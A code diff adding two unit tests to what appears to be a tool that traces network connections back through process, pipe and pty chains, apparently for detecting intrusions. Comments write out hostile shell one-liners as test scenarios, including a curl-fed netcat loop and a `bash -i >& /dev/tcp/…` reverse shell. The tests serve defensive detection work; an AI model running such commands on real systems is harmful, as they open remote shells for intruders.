@@ -615,6 +615,55 @@ static void test_creator_history_limits(void)
 	graph_free(g);
 }
 
+/* `while read h; do nc -d $h 22; done < <(curl …)`: the shell reads its own
+ * child's output through a pipe it still holds — a source (only a hub is not
+ * fed by its descendants) */
+static void test_reads_child_live(void)
+{
+	struct graph *g = mk(600, 1000);
+	image(g, 120, 1, "/usr/bin/bash", 1 * SEC);
+	mkpipe(g, 120, 3, 4, 990, 2 * SEC);
+	pipe_child(g, 121, 120, 4, 1, "/usr/bin/curl", 2 * SEC + 1);
+	fdop(g, 120, HT_REC_CLOSE, 4, 0, 2 * SEC + 3); /* keeps the read end */
+	connect_tcp(g, 121, 6, 3800, "203.0.113.9", 80, 2 * SEC + 4);
+	fdop(g, 121, HT_REC_CLOSE, 6, 0, 3 * SEC);
+	ok(g, 121, R(HT_REC_EXIT, 3 * SEC + 1));
+	onward(g, 122, 120, "/usr/bin/nc.openbsd", 3801, 4 * SEC);
+	CHECK_CHAINS(g, 122, 3801, 5 * SEC, "203.0.113.9:curl,bash,nc.openbsd");
+	graph_free(g);
+}
+
+/* tmux forks libutempter's helper for each new pane with every fd of the
+ * server (all panes' masters): a departed feeder of the new pane's pty, it must
+ * not bring in what another pane runs */
+static void test_hub_child_departed(void)
+{
+	struct graph *g = mk(600, 1000);
+	image(g, 130, 1, "/usr/bin/tmux", 1 * SEC);
+	pty(g, 130, 5, -1, 7, 1 * SEC + 1); /* pane A */
+	birth(g, 131, 130, 2 * SEC);
+	fdop(g, 131, HT_REC_CLOSERANGE, 0, 100, 2 * SEC + 1); /* a pane drops the server's fds */
+	struct ht_record o = R(HT_REC_OPEN, 2 * SEC + 1);
+	o.fd = 0;
+	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, 7};
+	ok(g, 131, o);
+	image(g, 131, 130, "/usr/bin/ssh", 2 * SEC + 2);
+	connect_tcp(g, 131, 3, 3900, "203.0.113.4", 22, 2 * SEC + 3);
+	pty(g, 130, 6, -1, 8, 5 * SEC); /* pane B */
+	birth(g, 133, 130, 5 * SEC + 1);
+	fdop(g, 133, HT_REC_CLOSERANGE, 0, 100, 5 * SEC + 2);
+	o.ts = 5 * SEC + 2;
+	o.chan.ino = 8;
+	ok(g, 133, o);
+	image(g, 133, 130, "/usr/bin/bash", 5 * SEC + 3);
+	birth(g, 132, 130, 5 * SEC + 4); /* utempter: the server's fds */
+	image(g, 132, 130, "/usr/lib/utempter/utempter", 5 * SEC + 5);
+	ok(g, 132, R(HT_REC_EXIT, 5 * SEC + 6));
+	onward(g, 134, 133, "/usr/bin/nc.openbsd", 3901, 6 * SEC);
+	CHECK_CHAINS(g, 134, 3901, 7 * SEC, "h2:nc.openbsd");
+	graph_free(g);
+}
+
 /* a reverse shell (`bash -i >& /dev/tcp/H1/4444`) whose start-up ran
  * `$(stat …)` in a subshell that inherited the connection: the connection is
  * reported on the direct path (bash holds it), not through the pipe it read */
@@ -981,6 +1030,7 @@ T_MAIN("graph", T(test_ssh_then_ssh), T(test_reflatten_upstream), T(test_pipe_re
        T(test_creator_ended_before_birth_seen), T(test_hub_children_not_sources),
        T(test_same_end_not_sources), T(test_recent_history), T(test_departed_feeder),
        T(test_creator_history), T(test_creator_reads_child), T(test_creator_history_limits),
+       T(test_reads_child_live), T(test_hub_child_departed),
        T(test_direct_path_first),
        T(test_local_origin), T(test_local_origin_feeders), T(test_local_origin_feeder_once), T(test_pid_reuse), T(test_retention_and_bounds),
        T(test_forged_creator_contradiction), T(test_records_older_than_proc_read), T(test_ghost_fd_inherited), T(test_probe_keeps_tcp_peers), T(test_reconnect_after_failure),
